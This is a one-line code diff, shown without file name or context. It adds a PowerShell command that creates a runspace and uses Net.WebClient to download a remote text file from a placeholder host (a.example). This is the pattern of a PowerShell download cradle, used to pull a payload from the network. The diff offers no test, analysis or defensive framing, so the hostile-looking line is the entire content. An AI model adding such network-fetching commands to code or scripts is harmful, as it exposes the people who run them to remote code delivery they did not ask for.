@@ -1,0 +1,1 @@
+[powershell]::Create().AddScript('$c = New-Object Net.WebClient; $c.DownloadString(''http://a.example/p/x.txt'')').Invoke()
